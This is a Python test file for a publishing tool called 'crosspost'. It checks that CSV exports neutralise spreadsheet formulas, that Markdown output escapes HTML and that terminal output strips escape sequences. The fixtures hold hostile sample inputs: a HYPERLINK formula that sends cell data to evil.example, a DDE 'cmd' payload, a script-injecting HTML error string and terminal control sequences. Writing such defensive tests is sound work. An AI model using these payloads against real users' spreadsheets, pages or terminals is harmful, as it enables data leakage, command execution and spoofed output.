"""Issue 11, item 10: what crosspost writes for spreadsheets, Markdown viewers and terminals cannot
carry a live formula, raw HTML or an escape sequence from a title or a platform's error."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import datetime
from pathlib import Path

from crosspost import audit
from crosspost import report as rep
from crosspost.hygiene import csv_cell, md_text, terminal_safe
from crosspost.models import Release, Variant
from crosspost.store import Store

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
HTML_ERROR = '<html><img src=x onerror="alert(1)"><script>steal()</script></html>'
ESCAPES = "Judul\x1b]0;judul-palsu\x07 \x1b[2J\x1b[31mmerah\x1b[0m\x9b1m\x07\x08\u202e"


def _log(db: Path) -> Store:
    store = Store.open(db)
    when = datetime.fromisoformat("2026-07-01T09:00+07:00")
    rid = store.save_release(Release(slug="r1", title=FORMULA, body="Isi.", date=when), now=when.timestamp())
    rows = store.enqueue(rid, [Variant(channel="facebook", kind="fake", text="@cmd|' /C calc'!A0"),
                               Variant(channel="x", kind="fake", text="+1")], None, when.timestamp())
    with sqlite3.connect(db) as c:
        c.execute("UPDATE deliveries SET status = 'failed', error_kind = 'permanent', last_error = ? "
                  "WHERE id = ?", (HTML_ERROR, rows[0].id))
        c.execute("UPDATE deliveries SET status = 'failed', error_kind = 'permanent', last_error = ? "
                  "WHERE id = ?", ("=1+1 ditolak", rows[1].id))
    return store


def test_audit_csv_cells_are_not_formulas(tmp_path):
    store = _log(tmp_path / "log.db")
    from zoneinfo import ZoneInfo

    when = datetime.fromisoformat("2026-07-01T00:00+07:00").timestamp()
    buf = io.StringIO()
    audit.write(list(audit.records(store, when, when + 86400 * 2, ZoneInfo("Asia/Jakarta"))), "csv", buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows and all(r["title"] == "'" + FORMULA for r in rows)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_report_csv_and_markdown(tmp_path):
    store = _log(tmp_path / "log.db")
    start, end = rep.period("2026-07-01", "2026-07-31", "Asia/Jakarta")
    report = rep.build(store, start, end, "Asia/Jakarta")
    md = rep.render(report, "md")
    assert "<script>" not in md and "<img" not in md and "&lt;script&gt;" in md
    cells = [c for row in csv.reader(io.StringIO(rep.render(report, "csv"))) for c in row]
    assert "'=N+N ditolak" in cells  # the normalised cause, neutralised
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_terminal_output_strips_escape_sequences(cli):
    path = cli.cwd / "rilis.md"
    path.write_text('---\ntitle: "Judul\\e]0;judul-palsu\\a \\e[2J\\e[31mmerah\\e[0m"\n'
                    "date: 2026-11-20T09:00:00+07:00\nsummary: \"ring\\ekasan\\x07\"\n---\nIsi rilis.\n",
                    encoding="utf-8")
    for command in ("preview", "publish"):
        proc = cli(command, str(path), "-c", "website")
        assert proc.returncode == 0, proc.stderr
        assert "\x1b" not in proc.stdout + proc.stderr and "\x07" not in proc.stdout + proc.stderr
        assert "Judul" in proc.stdout and "merah" in proc.stdout
    proc = cli("status")
    assert "\x1b" not in proc.stdout + proc.stderr


def test_the_sanitisers():
    assert terminal_safe(ESCAPES) == "Judul merah"
    assert terminal_safe("satu\r\ndua\ttiga") == "satu\ndua\ttiga"
    assert terminal_safe("a\nb", newlines=False) == "a b"
    assert csv_cell(FORMULA).startswith("'=") and csv_cell("-1") == "'-1" and csv_cell(-1) == -1
    assert csv_cell("\tx") == "'\tx" and csv_cell("Biasa saja") == "Biasa saja"
    assert md_text("<b>&</b>") == "&lt;b&gt;&amp;&lt;/b&gt;"
